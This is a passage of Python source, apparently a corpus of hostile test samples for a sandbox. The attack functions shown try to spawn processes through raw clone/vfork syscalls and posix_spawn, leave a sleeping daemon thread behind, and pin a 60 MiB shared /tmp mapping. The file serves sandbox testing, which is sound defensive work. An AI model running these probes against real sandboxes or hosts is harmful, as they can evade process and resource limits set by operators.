    attempts.append(("clone_vfork", (ctypes.c_long(number["clone"]), ctypes.c_ulong(0x4000 | 17), ctypes.c_ulong(0),
                                     ctypes.c_ulong(0), ctypes.c_ulong(0), ctypes.c_ulong(0))))
    for name, args in attempts:
        pid = libc.syscall(*args)
        if pid == 0:
            os_module._exit(0)
        got[name] = pid if pid > 0 else -ctypes.get_errno()
    try:
        got["posix_spawn"] = os_module.posix_spawn(sys_module.executable, [sys_module.executable, "-c", "0"], {})
    except OSError as exc:
        got["posix_spawn"] = -exc.errno
    made = sorted(name for name, pid in got.items() if pid > 0)
    if made:
        return {"spawned": marker + ":achieved:process-" + "-".join(made)}
    raise PermissionError("no process: %r" % got)
""",
        imports="import ctypes",
        probe_sensitive=False,
    ),
    _os_sample(
        "thread_left_sleeping",
        "resource limits",
        "starts a thread that sleeps (no CPU at all) and returns: code that would run later, between calls",
        """
def attack(state, canary, secrets, port, marker):
    threading_module = __import__("threading")
    time_module = __import__("time")
    threading_module.Thread(target=time_module.sleep, args=(3600,), daemon=True).start()
    return {"thread": "sleeping"}
""",
        probe_sensitive=False,
    ),
    _os_sample(
        "mmap_shared_tmp_file",
        "resource limits",
        "sizes a /tmp file to 60 MiB and maps it MAP_SHARED, touching every page and keeping the mapping",
        """
_KEEP = []


def attack(state, canary, secrets, port, marker):
    os_module = __import__("os")
    mmap_module = __import__("mmap")
    size = 60 << 20
    fd = os_module.open("/tmp/shared", os_module.O_RDWR | os_module.O_CREAT, 0o600)
    os_module.ftruncate(fd, size)
    mapped = mmap_module.mmap(fd, size, mmap_module.MAP_SHARED)
    for offset in range(0, size, 4096):
        mapped[offset] = 1
    _KEEP.append(mapped)
    return {"mapped": marker + ":achieved:shared-mapping-60-mib"}
""",
        probe_sensitive=False,
    ),
]
OS_SAMPLES += RESOURCE_SAMPLES

#: The whole hostile corpus: the Python-layer samples of :mod:`.samples` and the OS-layer ones above.
CORPUS: tuple[HostileSample, ...] = (*SAMPLES, *OS_SAMPLES)
